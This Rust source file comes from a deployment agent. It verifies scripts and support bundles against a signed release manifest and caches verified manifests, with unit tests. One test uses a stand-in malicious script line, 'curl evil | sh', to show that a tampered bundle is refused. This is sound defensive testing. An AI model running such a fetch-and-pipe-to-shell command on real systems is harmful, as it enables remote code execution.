//! Script trust and the support bundle (issue 15; spec "The support bundle", "When a node
//! cannot verify its own scripts"; AG-32, AG-33, AG-36, AG-39), without I/O: which tree a
//! script runs from, what a check of that tree reports on the claim (`script_trust`,
//! `script_trust_files`), and the checks a support bundle on offer passes before it lands.
//! `script_trust.rs` reads the trees and lands the bundle. AG-35's verifier cache is here too:
//! a verified manifest is kept only while the file it was read from is the same file.

use std::{
    collections::HashMap,
    path::{Path, PathBuf},
};

use capstan_signing::{
    manifest::{
        self, read_archive, ArchiveError, ArchivedFile, Difference, FileManifest, ManifestError,
        MANIFEST_FILE, SIGNATURE_FILE,
    },
    release::{ReleaseError, SupportBundle},
    PublicKey,
};
use serde::{Deserialize, Serialize};

/// Where a siteless machine's support bundle is unpacked unless `--bundle-dir` says otherwise
/// (spec: `/opt/joinery-agent/tree`).
pub const DEFAULT_BUNDLE_DIR: &str = "/opt/capstan-agent/tree";
/// AG-38: the deployment files a site's poll looks at (an upgrade replaces them first).
pub const DEPLOYMENT_FILES: [&str; 5] = [
    "utils/upgrade.php",
    "utils/update_database.php",
    "includes/DatabaseUpdater.php",
    "includes/DeploymentHelper.php",
    "includes/PackageSignature.php",
];
/// The most files one `script_trust_files` report names (the plane keeps no more).
pub const MAX_REPORTED_FILES: usize = 64;

/// The tree scripts are verified against and run from (AG-33; spec "The support bundle").
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ScriptRoot {
    /// The site root, beside `public_html`, holding `RELEASE_MANIFEST` and its `.sig`.
    Site(PathBuf),
    /// A machine with no site: the support bundle's unpacked tree.
    Bundle(PathBuf),
}

impl ScriptRoot {
    /// A machine with a site root uses the site root; one without uses the bundle's tree once
    /// it has landed; one with neither has nothing a script could be verified against.
    pub fn of(site_root: Option<&Path>, bundle_dir: &Path, bundle_landed: bool) -> Option<Self> {
        match site_root {
            Some(site) => Some(ScriptRoot::Site(site.to_path_buf())),
            None if bundle_landed => Some(ScriptRoot::Bundle(bundle_dir.to_path_buf())),
            None => None,
        }
    }

    pub fn path(&self) -> &Path {
        match self {
            ScriptRoot::Site(path) | ScriptRoot::Bundle(path) => path,
        }
    }

    /// The bundle's tree must hold nothing unlisted (AG-32); a site's tree holds far more than
    /// its release (uploads, config), so only listed files are judged there.
    pub fn whole(&self) -> bool {
        matches!(self, ScriptRoot::Bundle(_))
    }
}

/// `script_trust`'s closed set as this agent reports it (AC-49 leaves the full set open).
#[derive(
    Debug,
    Clone,
    Copy,
    PartialEq,
    Eq,
    Serialize,
    Deserialize,
    strum::IntoStaticStr,
    strum::EnumString,
)]
#[serde(rename_all = "snake_case")]
#[strum(serialize_all = "snake_case")]
pub enum ScriptTrust {
    /// The manifest is usable and every file looked at matches it (`script_trust_files` is
    /// empty: "looked, all match").
    Trusted,
    /// The manifest is usable and the files named differ from it, are missing or unlisted.
    UntrustedFile,
    /// The manifest cannot be used (absent, unreadable, not signed by a key this agent
    /// holds): every script refuses.
    UnusableManifest,
}

/// One look at the script tree, as the claim carries it (AG-39).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustReport {
    pub state: ScriptTrust,
    /// The differing files, sorted, at most [`MAX_REPORTED_FILES`].
    pub files: Vec<String>,
    /// In words: which files and how, or why the manifest cannot be used.
    pub reason: Option<String>,
}

impl TrustReport {
    /// The report of a look that found `differences` against a usable manifest, or could not
    /// use the manifest at all.
    pub fn of(looked: Result<Vec<Difference>, ManifestError>) -> TrustReport {
        match looked {
            Err(error) => TrustReport {
                state: ScriptTrust::UnusableManifest,
                files: Vec::new(),
                reason: Some(error.to_string()),
            },
            Ok(differences) if differences.is_empty() => TrustReport {
                state: ScriptTrust::Trusted,
                files: Vec::new(),
                reason: None,
            },
            Ok(differences) => {
                let mut files: Vec<String> = differences
                    .iter()
                    .map(|difference| difference.path.clone())
                    .collect();
                files.dedup();
                files.truncate(MAX_REPORTED_FILES);
                let said: Vec<String> = differences
                    .iter()
                    .take(MAX_REPORTED_FILES)
                    .map(ToString::to_string)
                    .collect();
                TrustReport {
                    state: ScriptTrust::UntrustedFile,
                    files,
                    reason: Some(format!(
                        "files differ from the signed release manifest: {}",
                        said.join(", ")
                    )),
                }
            }
        }
    }
}

/// Why a script is not run (AG-33): the manifest is unusable, or this script is not the one
/// it lists. Nothing is repaired automatically.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum ScriptRefusal {
    #[error("this machine has no site and its support bundle has not landed, so no script can be verified: {script} is refused")]
    NoTree { script: String },
    #[error("{script} is refused: {path} is not a plain relative path")]
    BadPath { script: String, path: String },
    #[error("{script} is refused: the release manifest at {root} cannot be used ({error}); every script refuses until a verifying manifest is in place")]
    UnusableManifest {
        script: String,
        root: String,
        error: ManifestError,
    },
    #[error("{script} is refused: {difference} against the signed release manifest at {root}")]
    UntrustedFile {
        script: String,
        root: String,
        difference: Difference,
    },
    #[error("{script} is refused: it cannot be read under {root}: {error}")]
    Unreadable {
        script: String,
        root: String,
        error: String,
    },
}

impl ScriptRefusal {
    /// The trust state this refusal stands for, and the file it names.
    pub fn trust(&self) -> (ScriptTrust, Option<&str>) {
        match self {
            ScriptRefusal::UntrustedFile { difference, .. } => {
                (ScriptTrust::UntrustedFile, Some(difference.path.as_str()))
            }
            _ => (ScriptTrust::UnusableManifest, None),
        }
    }
}

/// `bundle_state`'s closed set as this agent reports it (spec "Keeping the agent current";
/// `unlogged` waits for the public log).
#[derive(
    Debug,
    Clone,
    Copy,
    PartialEq,
    Eq,
    Serialize,
    Deserialize,
    strum::IntoStaticStr,
    strum::EnumString,
)]
#[serde(rename_all = "snake_case")]
#[strum(serialize_all = "snake_case")]
pub enum BundleState {
    /// The bundle on offer is the one landed.
    Current,
    /// The bundle on offer failed a check and was not landed.
    VerifyFailed,
}

/// A bundle's verdict: the state, and in words why (a refusal names the files).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BundleVerdict {
    pub state: BundleState,
    pub reason: Option<String>,
    /// The files a refusal names.
    pub files: Vec<String>,
}

impl BundleVerdict {
    fn refused(reason: String, files: Vec<String>) -> BundleVerdict {
        BundleVerdict {
            state: BundleState::VerifyFailed,
            reason: Some(reason),
            files,
        }
    }
}

/// What the state directory remembers of the landed bundle (`bundle.json`).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Landed {
    /// The archive's sha256.
    pub sha256: String,
}

/// Whether the bundle on offer needs fetching (AG-32): a machine with a site uses its site
/// root and takes no bundle; otherwise a bundle whose archive's bytes differ from the landed
/// one's replaces it, newer or older (the advertised sha256 only lets the agent skip a
/// transfer).
pub fn wanted<'a>(
    has_site: bool,
    offered: Option<&'a SupportBundle>,
    landed: Option<&Landed>,
) -> Option<&'a SupportBundle> {
    if has_site {
        return None;
    }
    let offered = offered?;
    match landed {
        Some(landed) if landed.sha256 == offered.archive.sha256 => None,
        _ => Some(offered),
    }
}

/// The checks on a fetched bundle, in order (AG-32): the archive's size, sha256 and signature
/// by a trusted key (as for a binary); then every entry against the manifest in the signed
/// metadata — only regular files, each listed with its bytes and mode, every listed file
/// present, nothing unlisted but the manifest's own two files; then that those two files are
/// the same manifest, signed by a trusted key, so the tree carries its own proof for the
/// scripts' checks. Returns the files to land.
pub fn check_bundle(
    bundle: &SupportBundle,
    bytes: &[u8],
    trusted: &[PublicKey],
) -> Result<Vec<ArchivedFile>, BundleVerdict> {
    bundle
        .archive
        .check("the support bundle", bytes, trusted)
        .map_err(|error| {
            let what = match error {
                ReleaseError::WrongSize { .. } => "wrong size",
                ReleaseError::WrongHash { .. } => "wrong hash",
                _ => "bad signature",
            };
            BundleVerdict::refused(format!("{what}: {error}"), Vec::new())
        })?;
    let files = read_archive(bytes, &bundle.manifest, &[MANIFEST_FILE, SIGNATURE_FILE]).map_err(
        |error| {
            let files = error.files();
            let reason = match &error {
                ArchiveError::Unreadable(_) => format!("bad archive: {error}"),
                ArchiveError::Differs(_) => format!("untrusted file: {error}"),
            };
            BundleVerdict::refused(reason, files)
        },
    )?;
    let own = |name: &str| {
        files
            .iter()
            .find(|file| file.path == name)
            .map(|file| file.bytes.as_slice())
    };
    let (Some(manifest_bytes), Some(signature_bytes)) = (own(MANIFEST_FILE), own(SIGNATURE_FILE))
    else {
        return Err(BundleVerdict::refused(
            format!("bad archive: it does not carry {MANIFEST_FILE} and {SIGNATURE_FILE}"),
            Vec::new(),
        ));
    };
    match manifest::verify(manifest_bytes, signature_bytes, trusted) {
        Ok((carried, _)) if carried == bundle.manifest => Ok(files),
        Ok(_) => Err(BundleVerdict::refused(
            format!("bad archive: its {MANIFEST_FILE} is not the manifest the release names"),
            vec![MANIFEST_FILE.to_string()],
        )),
        Err(error) => Err(BundleVerdict::refused(
            format!("bad signature: its {MANIFEST_FILE}: {error}"),
            vec![MANIFEST_FILE.to_string(), SIGNATURE_FILE.to_string()],
        )),
    }
}

/// The file a script's relative path names, checked against a usable manifest (AG-33): `Ok`
/// only when it is listed with exactly these bytes and this mode.
pub fn check_script(
    manifest: &FileManifest,
    script: &str,
    root: &Path,
    bytes: &[u8],
    mode: u32,
) -> Result<(), ScriptRefusal> {
    manifest
        .check_file(script, bytes, mode)
        .map_err(|difference| ScriptRefusal::UntrustedFile {
            script: script.to_string(),
            root: root.display().to_string(),
            difference,
        })
}

/// AG-35: what identifies a file as read, so a verified manifest is not re-read while the file
/// stays the same: its size, modification time, mode and inode. An upgrade that replaces the
/// manifest (a new inode, a new mtime), an edit in place (mtime, size) or a `chmod` (mode)
/// changes it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FileStamp {
    pub size: u64,
    pub mtime_sec: i64,
    pub mtime_nsec: i64,
    pub mode: u32,
    pub inode: u64,
}

/// What a verified manifest was verified from: the tree, the stamps of `RELEASE_MANIFEST`
/// and of its `.sig` (the verdict rests on both), and the keys it was checked against.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VerifiedKey {
    pub manifest: FileStamp,
    pub signature: FileStamp,
    pub trusted: Vec<PublicKey>,
}

/// AG-35's verifier cache: per tree, the manifest last verified there and what it was verified
/// from. It is never kept for the life of the process regardless of the file (one agent build
/// spans many releases: a routine upgrade would read as every file modified, and a manifest
/// broken under a running agent would stay invisible); only a verified manifest is kept, so a
/// manifest that fails is read and judged again every time.
#[derive(Debug, Default)]
pub struct VerifierCache {
    trees: HashMap<PathBuf, (VerifiedKey, FileManifest)>,
}

impl VerifierCache {
    /// The manifest verified at `root` from exactly `key`, if any: any other stamp (size, mtime,
    /// mode or inode of either file) or other keys is a miss.
    pub fn get(&self, root: &Path, key: &VerifiedKey) -> Option<&FileManifest> {
        self.trees
            .get(root)
            .filter(|(kept, _)| kept == key)
            .map(|(_, manifest)| manifest)
    }

    /// Keeps `manifest`, verified at `root` from `key`, in place of what was kept there.
    pub fn put(&mut self, root: &Path, key: VerifiedKey, manifest: FileManifest) {
        self.trees.insert(root.to_path_buf(), (key, manifest));
    }

    /// Forgets what was kept for `root` (its manifest failed, or cannot be stamped).
    pub fn forget(&mut self, root: &Path) {
        self.trees.remove(root);
    }
}

#[cfg(test)]
mod tests {
    use capstan_events::Word as _;

    use super::*;

    fn stamp() -> FileStamp {
        FileStamp {
            size: 420,
            mtime_sec: 1_800_000_000,
            mtime_nsec: 5,
            mode: 0o100644,
            inode: 77,
        }
    }

    fn verified_key(manifest: FileStamp) -> VerifiedKey {
        VerifiedKey {
            manifest,
            signature: stamp(),
            trusted: vec![capstan_signing::NodeKey::from_secret_bytes(&[1; 32])
                .unwrap()
                .public_key()],
        }
    }

    fn listed(path: &str) -> FileManifest {
        FileManifest::describe([(path, 0o755, &b"x"[..])]).unwrap()
    }

    #[test]
    fn ag_35_a_manifest_verified_from_the_same_size_mtime_mode_and_inode_is_served_from_the_cache()
    {
        let mut cache = VerifierCache::default();
        let root = Path::new("/srv/site");
        assert_eq!(cache.get(root, &verified_key(stamp())), None);
        cache.put(root, verified_key(stamp()), listed("bin/a.sh"));
        assert_eq!(
            cache.get(root, &verified_key(stamp())),
            Some(&listed("bin/a.sh"))
        );
        // Another tree has its own entry.
        assert_eq!(
            cache.get(Path::new("/opt/tree"), &verified_key(stamp())),
            None
        );
    }

    #[test]
    fn ag_35_the_cache_is_invalidated_when_size_mtime_mode_or_inode_changes() {
        let mut cache = VerifierCache::default();
        let root = Path::new("/srv/site");
        cache.put(root, verified_key(stamp()), listed("bin/a.sh"));
        let changed = [
            FileStamp {
                size: 421,
                ..stamp()
            },
            FileStamp {
                mtime_sec: 1_800_000_001,
                ..stamp()
            },
            FileStamp {
                mtime_nsec: 6,
                ..stamp()
            },
            FileStamp {
                mode: 0o100664,
                ..stamp()
            },
            FileStamp {
                inode: 78,
                ..stamp()
            },
        ];
        for manifest in changed {
            assert_eq!(
                cache.get(root, &verified_key(manifest)),
                None,
                "{manifest:?} is another file"
            );
        }
        // The signature file's stamp and the keys count too.
        let mut other_sig = verified_key(stamp());
        other_sig.signature.inode = 1;
        assert_eq!(cache.get(root, &other_sig), None);
        let mut other_keys = verified_key(stamp());
        other_keys.trusted.clear();
        assert_eq!(cache.get(root, &other_keys), None);
        cache.forget(root);
        assert_eq!(cache.get(root, &verified_key(stamp())), None);
    }
    use capstan_signing::{
        manifest::{write_archive, Problem},
        release::Artifact,
        NodeKey,
    };

    const SCRIPT: &[u8] = b"#!/bin/sh\necho report\n";

    fn key(seed: u8) -> NodeKey {
        NodeKey::from_secret_bytes(&[seed; 32]).unwrap()
    }

    fn manifest() -> FileManifest {
        FileManifest::describe([("bin/host_report.sh", 0o755, SCRIPT)]).unwrap()
    }

    /// A bundle as `capstan release` makes it: the files and the signed manifest beside them.
    fn bundle(signer: &NodeKey, script: &[u8]) -> (SupportBundle, Vec<u8>) {
        let manifest = manifest();
        let manifest_bytes = manifest.to_bytes();
        let signature = manifest.sign(signer);
        let archive = write_archive([
            ("bin/host_report.sh", 0o755, script),
            (MANIFEST_FILE, 0o644, &manifest_bytes[..]),
            (SIGNATURE_FILE, 0o644, &signature[..]),
        ]);
        (
            SupportBundle {
                archive: Artifact::describe("support_bundle.tar", &archive, signer),
                manifest,
            },
            archive,
        )
    }

    #[test]
    fn ag_32_a_bundle_signed_by_a_trusted_key_with_every_file_as_listed_lands() {
        let signer = key(1);
        let (offered, bytes) = bundle(&signer, SCRIPT);
        let files = check_bundle(&offered, &bytes, &[signer.public_key()]).unwrap();
        let paths: Vec<&str> = files.iter().map(|file| file.path.as_str()).collect();
        assert_eq!(
            paths,
            [
                "RELEASE_MANIFEST",
                "RELEASE_MANIFEST.sig",
                "bin/host_report.sh"
            ]
        );
    }

    #[test]
    fn ag_32_a_bundle_is_refused_for_a_foreign_signature_or_bytes_other_than_those_signed() {
        let signer = key(1);
        let (offered, bytes) = bundle(&signer, SCRIPT);
        let verdict = check_bundle(&offered, &bytes, &[key(2).public_key()]).unwrap_err();
        assert_eq!(verdict.state, BundleState::VerifyFailed);
        assert!(verdict.reason.unwrap().starts_with("bad signature"));
        let mut tampered = bytes.clone();
        let last = tampered.len() - 1;
        tampered[last] ^= 1;
        let verdict = check_bundle(&offered, &tampered, &[signer.public_key()]).unwrap_err();
        assert!(verdict.reason.unwrap().starts_with("wrong hash"));
    }

    #[test]
    fn ag_32_a_signed_archive_whose_files_are_not_the_listed_ones_is_refused_naming_them() {
        // The release key signed an archive whose script is not the one its manifest lists
        // (a build gone wrong, or a key used carelessly): the file check still refuses it.
        let signer = key(1);
        let (mut offered, _) = bundle(&signer, SCRIPT);
        let (_, wrong) = bundle(&signer, b"#!/bin/sh\ncurl evil | sh\n");
        offered.archive = Artifact::describe("support_bundle.tar", &wrong, &signer);
        let verdict = check_bundle(&offered, &wrong, &[signer.public_key()]).unwrap_err();
        assert_eq!(verdict.files, ["bin/host_report.sh"]);
        let reason = verdict.reason.unwrap();
        assert!(reason.starts_with("untrusted file"), "{reason}");
        assert!(reason.contains("bin/host_report.sh (modified)"), "{reason}");
    }

    #[test]
    fn ag_32_the_manifest_the_archive_carries_must_be_the_signed_one() {
        let signer = key(1);
        let manifest = manifest();
        let other = FileManifest::describe([("bin/host_report.sh", 0o700, SCRIPT)]).unwrap();
        let other_bytes = other.to_bytes();
        let other_signature = other.sign(&signer);
        let archive = write_archive([
            ("bin/host_report.sh", 0o755, SCRIPT),
            (MANIFEST_FILE, 0o644, &other_bytes[..]),
            (SIGNATURE_FILE, 0o644, &other_signature[..]),
        ]);
        let offered = SupportBundle {
            archive: Artifact::describe("b.tar", &archive, &signer),
            manifest,
        };
        let verdict = check_bundle(&offered, &archive, &[signer.public_key()]).unwrap_err();
        assert!(verdict
            .reason
            .unwrap()
            .contains("not the manifest the release names"));
        // and one with no manifest of its own is refused
        let bare = write_archive([("bin/host_report.sh", 0o755, SCRIPT)]);
        let offered = SupportBundle {
            archive: Artifact::describe("b.tar", &bare, &signer),
            manifest: self::manifest(),
        };
        assert!(check_bundle(&offered, &bare, &[signer.public_key()]).is_err());
    }

    #[test]
    fn ag_32_a_bundle_is_fetched_only_without_a_site_and_whenever_its_bytes_differ() {
        let signer = key(1);
        let (offered, _) = bundle(&signer, SCRIPT);
        assert_eq!(
            wanted(true, Some(&offered), None),
            None,
            "a site uses its root"
        );
        assert_eq!(wanted(false, None, None), None, "nothing on offer");
        assert_eq!(wanted(false, Some(&offered), None), Some(&offered));
        let same = Landed {
            sha256: offered.archive.sha256.clone(),
        };
        assert_eq!(wanted(false, Some(&offered), Some(&same)), None);
        // an older bundle on offer replaces a newer one too: only the bytes matter
        let other = Landed {
            sha256: "0".repeat(64),
        };
        assert_eq!(wanted(false, Some(&offered), Some(&other)), Some(&offered));
    }

    #[test]
    fn ag_33_scripts_run_from_the_site_root_else_the_landed_bundle_else_nowhere() {
        let bundle_dir = Path::new("/opt/capstan-agent/tree");
        assert_eq!(
            ScriptRoot::of(Some(Path::new("/var/www/site")), bundle_dir, true),
            Some(ScriptRoot::Site("/var/www/site".into()))
        );
        let root = ScriptRoot::of(None, bundle_dir, true).unwrap();
        assert_eq!(root, ScriptRoot::Bundle(bundle_dir.into()));
        assert!(root.whole());
        assert!(!ScriptRoot::Site("/s".into()).whole());
        assert_eq!(ScriptRoot::of(None, bundle_dir, false), None);
    }

    #[test]
    fn ag_33_a_script_runs_only_when_listed_with_exactly_its_bytes() {
        let manifest = manifest();
        let root = Path::new("/var/www/site");
        assert_eq!(
            check_script(&manifest, "bin/host_report.sh", root, SCRIPT, 0o755),
            Ok(())
        );
        let refused =
            check_script(&manifest, "bin/host_report.sh", root, b"#!/bin/sh\n", 0o755).unwrap_err();
        assert_eq!(
            refused.trust(),
            (ScriptTrust::UntrustedFile, Some("bin/host_report.sh"))
        );
        assert!(refused.to_string().contains("modified"), "{refused}");
        let unlisted = check_script(&manifest, "bin/new.sh", root, SCRIPT, 0o755).unwrap_err();
        assert!(unlisted.to_string().contains("not listed"), "{unlisted}");
    }

    #[test]
    fn ag_39_a_look_reports_trusted_with_an_empty_list_or_names_each_differing_file() {
        let trusted = TrustReport::of(Ok(Vec::new()));
        assert_eq!(trusted.state.as_str(), "trusted");
        assert!(trusted.files.is_empty());
        let report = TrustReport::of(Ok(vec![
            Difference {
                path: "bin/a.sh".into(),
                problem: Problem::Modified,
            },
            Difference {
                path: "bin/b.sh".into(),
                problem: Problem::Unlisted,
            },
        ]));
        assert_eq!(report.state.as_str(), "untrusted_file");
        assert_eq!(report.files, ["bin/a.sh", "bin/b.sh"]);
        assert!(report.reason.unwrap().contains("bin/b.sh (not listed)"));
        let unusable = TrustReport::of(Err(ManifestError::Absent("RELEASE_MANIFEST".into())));
        assert_eq!(unusable.state.as_str(), "unusable_manifest");
        assert!(unusable.reason.unwrap().contains("RELEASE_MANIFEST"));
    }
}
